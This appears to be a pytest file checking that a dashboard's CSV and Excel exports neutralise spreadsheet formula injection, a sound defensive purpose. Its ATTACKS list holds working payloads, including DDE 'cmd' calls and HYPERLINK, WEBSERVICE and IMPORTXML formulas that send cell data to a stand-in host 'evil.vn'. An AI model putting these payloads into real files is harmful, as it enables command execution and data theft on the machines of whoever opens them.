"""No file that leaves the dashboard runs anything in a spreadsheet, whatever stands in the names it was told."""

import csv
import io
import re
from datetime import date
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from data.harmless import all_harmless, harmless, led, unled
from data.intake import held
from pages.figures import named, workbook_table
from pages.figures.tables import Col
from pages.papers import book, flat
from pages.papers.blocks import Cell, Column, Row, Table
from pages.parts import sheets
from pages.texts import Words
from tests.papers import drawn

ROOT = Path(__file__).resolve().parents[2]
VI = Words("vi")
ATTACKS = [
    "=cmd|'/c calc'!A1",
    "+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    '=HYPERLINK("http://evil.vn?x="&A1,"Xem")',
    '=WEBSERVICE("http://evil.vn/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.vn/",A1),"//a")',
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(A1)",
    "Trường A;=1+1",
    "Trường A\t=1+1",
    "Trường A\r\n=1+1",
]
SIGNS = "=@+-＝＠＋－"


def cells(text):
    """The cells that a spreadsheet makes of a text table, whichever separator it takes for the one."""
    for separator in (",", ";", "\t"):
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            yield from line


def runs(cell):
    """Whether a spreadsheet would run the cell; a number does not."""
    said = cell.strip().strip('"').strip()
    return said[:1] != "" and said[0] in SIGNS and not re.fullmatch(r"[+-]?[\d.,]+", said)


def in_workbook(content):
    """The kinds of all cells of a workbook, and whether anything in it leads elsewhere."""
    pages = openpyxl.load_workbook(io.BytesIO(content)).worksheets
    return {
        (cell.data_type, bool(cell.hyperlink and cell.hyperlink.target))
        for page in pages
        for line in page.iter_rows()
        for cell in line
    }


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_text_table_runs_nothing(attack):
    snapshot = SimpleNamespace(id="x", as_of=date(2022, 6, 30), kind="synthetic")
    frame = pl.DataFrame({"name": [attack, "Đà Nẵng", None], "n": [-1, 2, None]})

    text = sheets.csv(frame, snapshot, seen=attack, words=VI).decode("utf-8-sig")

    assert not [cell for cell in cells(text) if runs(cell)]
    assert "Đà Nẵng" in text


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_table_of_a_paper_runs_nothing_in_cell_heading_or_source(attack):
    table = Table("x", attack, (Column(attack), Column("Số", "count")), (Row((Cell(attack), Cell("-1", -1))),), attack)
    paper = drawn.paper(title=attack, blocks=(table,), foot=attack, told=((attack, attack),))

    for name, content in flat.files(paper):
        if name.endswith(".csv"):
            assert not [cell for cell in cells(content.decode("utf-8-sig")) if runs(cell)], name
    assert in_workbook(book.xlsx(paper)) <= {("s", False), ("n", False)}


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_table_of_a_screen_as_a_workbook_runs_nothing_and_leads_nowhere(attack):
    frame = pl.DataFrame({"name": [attack], "n": [1]})
    columns = [Col("name", attack, "text", attack), Col("n", "Số", "count")]

    content = workbook_table.xlsx(frame, columns, caption=attack, told=[(attack, attack)], words=VI)

    assert in_workbook(content) <= {("s", False), ("n", False)}


@pytest.mark.parametrize("attack", ATTACKS)
def test_rows_sent_back_run_nothing_whoever_named_file_and_page(attack, tmp_path, monkeypatch):
    rows = [held.HeldRow("so", "ho_tro", attack, attack, 1, (("Mô đun", "empty"),), {"Mô đun": attack})] * 3
    ((workbook,),) = held.write(tmp_path / "few", rows).values()
    monkeypatch.setattr(held, "_FEW", 2)
    ((text,),) = held.write(tmp_path / "many", rows).values()

    assert {kind for kind, _ in in_workbook(workbook.read_bytes())} <= {"s", "n"}
    with text.open(encoding="utf-8-sig", newline="") as lines:
        assert not [cell for line in csv.reader(lines) for cell in line if runs(cell)]


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_sender_wrote_runs_nothing_when_a_page_is_opened_as_a_table(attack):
    assert not runs(named.safe(attack))


@given(st.text(max_size=30))
def test_harmless_is_harmless_and_the_same_for_one_and_for_many(text):
    one = harmless(text)

    assert not runs(one) or one.startswith("'")
    assert all_harmless(pl.DataFrame({"a": [text]}))["a"][0] == one


@given(st.text(max_size=30))
def test_what_is_led_can_be_taken_back(text):
    assert unled(led(text)) == text or text.startswith("'")
    assert unled(text) == text or text.startswith("'")


@pytest.mark.parametrize("text", ["Đà Nẵng", "GV1", "0905123456", "a-b", "12,5", "x = y", "", "Trường A; lớp 1"])
def test_what_is_harmless_stays_as_it_is(text):
    assert harmless(text) == led(text) == text


@pytest.mark.parametrize("text", ["-1", "+84 905", "-12,5"])
def test_amounts_stay_where_they_are_sent_back(text):
    assert led(text) == text


# What writes text tables and workbooks: each makes texts harmless, or writes what no reader is given.
_KEPT_INSIDE = {
    "data/demo/sample/files.py": "drawn files, to be read in",
    "data/demo/after/raw.py": "drawn files, to be read in",
    "data/intake/remembering.py": "an alias table of the state folder, read by the intake",
    "data/keeping/waiting.py": "files that wait to be read in, as they came",
}


def writers():
    """Files that write a text table or a workbook."""
    for folder in ("data", "pages", "queries"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            text = path.read_text(encoding="utf-8")
            if re.search(r"\.write_csv\(|csv\.(writer|DictWriter)\(|Workbook\(|write_excel\(|\.to_csv\(", text):
                yield path.relative_to(ROOT).as_posix(), text


def test_whatever_writes_a_table_makes_it_harmless():
    open_ends = [
        name
        for name, text in writers()
        if name not in _KEPT_INSIDE and "data.harmless" not in text and not re.search(r"strings_to_formulas|SAFE", text)
    ]

    assert open_ends == []


def test_no_workbook_takes_a_text_for_a_formula():
    made = [(name, text) for name, text in writers() if "Workbook(" in text and name != "data/keeping/waiting.py"]

    assert len(made) >= 4
    assert all('"strings_to_formulas": False' in text or "SAFE" in text for _, text in made)
    assert not [name for name, text in made if re.search(r"\.write_(formula|array_formula|dynamic)", text)]
